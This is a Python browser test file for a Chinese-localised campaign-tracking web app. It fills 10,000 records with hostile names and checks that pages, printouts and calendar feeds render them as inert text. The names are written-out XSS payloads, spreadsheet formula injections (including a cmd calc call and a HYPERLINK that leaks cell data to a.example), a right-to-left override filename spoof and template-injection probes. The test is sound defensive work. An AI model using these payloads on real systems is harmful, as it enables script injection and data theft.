"""Ten thousand units and everything else by names that nobody should have: words on every page, and nothing more."""

from collections.abc import Iterator
from datetime import UTC, date, datetime

import pytest
from icalendar import Calendar
from sqlalchemy import insert
from sqlmodel import col, func, select

from deployments.window.files import HERE
from flows.running import clock
from models.campaign.campaign import Stage
from models.campaign.milestone import Milestone
from models.campaign.work import Assignment, WorkItem
from models.database import open_session
from models.rules.window.errands import Errand
from models.rules.words import Level
from models.units.unit import Post, Unit
from tasks.decisions.asking import ask_by_hand
from tasks.window.addresses import Behind, SecretAddress, secret_token
from tests.browser.conftest import PATIENCE
from tests.support.served import let_in, served
from tests.support.windows import account, holder

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]
UNITS, TODAY = 10_000, date(2025, 7, 14)
LARGEST = 80 * 1024
NAMES = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)><a href="javascript:alert(4)">',
    "' autofocus onfocus=alert(5) x='",
    '=HYPERLINK("http://a.example/?"&A1,"点这里")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202eexe.fdp\u2066\u200f反",
    "</title></style></textarea><iframe src=//a.example>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "长" * 290,
    "W" * 290,
    "甲\n乙\t丙" + "-" * 200,
)
SEEN = """
window.violated = [];
document.addEventListener("securitypolicyviolation", (one) =>
  window.violated.push(`${one.violatedDirective} ${one.blockedURI} ${one.sample}`));
"""
# What of a name became more than words: an element, a handler, an address that leads elsewhere.
ALIVE = """() => [...document.querySelectorAll("*")].filter(one => {
    const leads = `${one.src || (one.href && (one.href.baseVal || one.href)) || ""}`;
    return ["SCRIPT", "IFRAME"].includes(one.tagName)
        || [...one.attributes].some(own => own.name.startsWith("on") || own.name == "autofocus")
        || /^javascript:|^[a-z]+:\\/\\/a\\.example/i.test(leads)
        || (one.tagName == "IMG" && !leads.startsWith("data:image/svg"));
}).map(one => one.outerHTML.slice(0, 200))"""
SIZES = {"phone": (390, 844), "desk": (1440, 900)}


@pytest.fixture
def hostile(campaign, campaign_id, clock_at) -> Iterator[dict[str, int]]:
    """Every name is hostile, on ten thousand units with a late part of an item each."""
    now = datetime(TODAY.year, TODAY.month, TODAY.day, 2, tzinfo=UTC)
    clock_at(now)
    with open_session() as session:
        first = session.exec(select(func.max(Unit.id))).one() + 1
        ids = range(first, first + UNITS)
        rows = [
            {"id": n, "campaign_id": campaign_id, "name": f"{NAMES[n % len(NAMES)]}{n}"}
            for n in ids
        ]
        session.connection().execute(insert(Unit), rows)
        item = session.exec(select(WorkItem).order_by(col(WorkItem.id))).first()
        assert item
        part = {"campaign_id": campaign_id, "work_item_id": item.id, "role": "responsible"}
        part |= {"state": "open", "by_post": "", "note": "", "withdrawn": False}
        days = dict.fromkeys(("begin_by", "due", "original_due"), date(2025, 7, 1))
        session.connection().execute(
            insert(Assignment), [{**part, **days, "unit_id": n} for n in ids]
        )
        posts = [
            {"campaign_id": campaign_id, "unit_id": n, "level": int(Level.LIAISON)} for n in ids
        ]
        for one in posts:
            name = NAMES[one["unit_id"] % len(NAMES)][:60] + str(one["unit_id"])
            one |= {"title": name, "tag": name, "vacant": False, "unreachable": False}
        session.connection().execute(insert(Post), posts)
        for table in (Milestone, WorkItem):
            for n, row in enumerate(session.exec(select(table))):
                row.title = NAMES[n % len(NAMES)] + f"事{n}"
        for n, row in enumerate(session.exec(select(Stage))):
            row.name = NAMES[n] + f"段{n}"
        of_unit = secret_token(session, SecretAddress(Behind.UNIT, first + 8))
        token, code = (
            secret_token(session, SecretAddress(Behind.WALL, campaign_id)),
            f"W{item.ordinal}",
        )
    number, _ = ask_by_hand("jc", 1, "创建办", clock.moment())
    return {"unit": first, "decision": number, "item": code, "wall": token, "calendar": of_unit}


def faults_of(page, address: str, width: int) -> list[str]:
    """What is wrong with a page by what a browser and its reader see of it."""
    said: list[str] = []
    page.on("dialog", lambda one: (said.append(f"dialog {one.message}"), one.dismiss()))
    page.on("console", lambda one: one.type == "error" and said.append(f"console {one.text}"))
    page.on("request", lambda one: address.startswith(one.url[:16]) or said.append(one.url))
    answer = page.goto(address)
    if answer.status != 200:
        said.append(f"status {answer.status}")
    weight = len(answer.body()) + (HERE / "window.css").stat().st_size
    if weight > LARGEST:
        said.append(f"{weight:,} bytes")
    wide = page.evaluate("document.documentElement.scrollWidth") - width
    if wide > 0:
        said.append(f"wider than the window by {wide}")
    said += page.evaluate("window.violated")
    said += page.evaluate(ALIVE)
    return said


@pytest.mark.parametrize("size", SIZES.values(), ids=SIZES)
def test_hostile_names_are_words_on_every_page(browser, hostile, pictures, size):
    width, height = size
    units = range(hostile["unit"], hostile["unit"] + len(NAMES))
    one, number, item = hostile["unit"], hostile["decision"], hostile["item"]
    parts = ("", "/week", "/chart", "/gate", "/sheet", "/feeds", "/all/units", "/all/items", "/o")
    searched = (
        f"/find?q={text}" for text in ("市", "%3Cscript%3E", "%3DHYPER", "W" * 300, "%E2%80%AE")
    )
    mine = [f"/i/{item}", f"/i/{item}?unit={one}", f"/i/{item}/register?unit={one}"]
    everyone = ["/", *(f"/c/jc{path}" for path in (*parts, *searched, *mine))]
    everyone += [f"/c/jc/u/{n}" for n in (0, 1, *units)]
    office = [f"/c/jc/o/{errand}" for errand in Errand]
    office += [f"/c/jc/o/{form}" for form in ("silences/new", "links", f"report/{item}")]
    faults = {}
    with served() as address:
        with open_session(read_only=True) as session:
            post = session.exec(select(Post.id).where(Post.unit_id == one)).one()
        leader = 0
        with open_session(read_only=True) as session:
            leader = session.exec(select(Post.id).where(Post.level == Level.GROUP_HEAD)).first()
        now = clock.now()
        for visitor, paths in (
            (
                account(now),
                [*everyone, *office, f"/d/{number}", "/me", "/c/jc/all/units?from=9900"],
            ),
            (holder(leader, now), ["/", "/me", f"/d/{number}"]),
            (
                holder(post, now),
                ["/me", "/c/jc", f"/c/jc/u/{one}", *(f"/c/jc{path}" for path in mine)],
            ),
        ):
            context = browser.new_context(
                viewport={"width": width, "height": height}, locale="zh-CN"
            )
            context.set_default_timeout(PATIENCE)
            context.add_init_script(SEEN)
            let_in(context, address, visitor)
            for path in paths:
                page = context.new_page()
                if found := faults_of(page, address + path, width):
                    faults[path] = found
                page.close()
            context.close()

    assert not faults


def test_hostile_names_are_words_on_the_wall_on_paper_and_in_a_calendar(browser, hostile):
    import pypdfium2

    sheets = {"/c/jc/sheet": (1, 1), f"/c/jc/u/{hostile['unit'] + 8}?all=1": (1, 4)}
    faults, pages = {}, {}
    with served() as address:
        context = browser.new_context(viewport={"width": 1920, "height": 1080}, locale="zh-CN")
        context.set_default_timeout(PATIENCE)
        context.add_init_script(SEEN)
        let_in(context, address, account(clock.now()))
        for turn in range(1, 5):
            path = f"/wall/{hostile['wall']}?turn={turn}"
            page = context.new_page()
            if found := faults_of(page, address + path, 1920):
                faults[path] = found
            page.close()
        page = context.new_page()
        for path in sheets:
            page.goto(address + path)
            page.emulate_media(media="print")
            printed = page.pdf(prefer_css_page_size=True, format="A4")
            pages[path] = len(pypdfium2.PdfDocument(printed))
        calendar = page.request.get(f"{address}/cal/{hostile['calendar']}.ics").body()
        context.close()

    assert not faults
    assert all(least <= pages[path] <= most for path, (least, most) in sheets.items()), pages
    [event] = Calendar.from_ical(calendar).walk("VEVENT")
    assert "<script>alert(1)</script>" in event["SUMMARY"]
    assert event["SUMMARY"].startswith("红（逾期） ")
    assert all(len(line) <= 75 for line in calendar.split(b"\r\n"))
    assert "\u202e" not in calendar.decode()
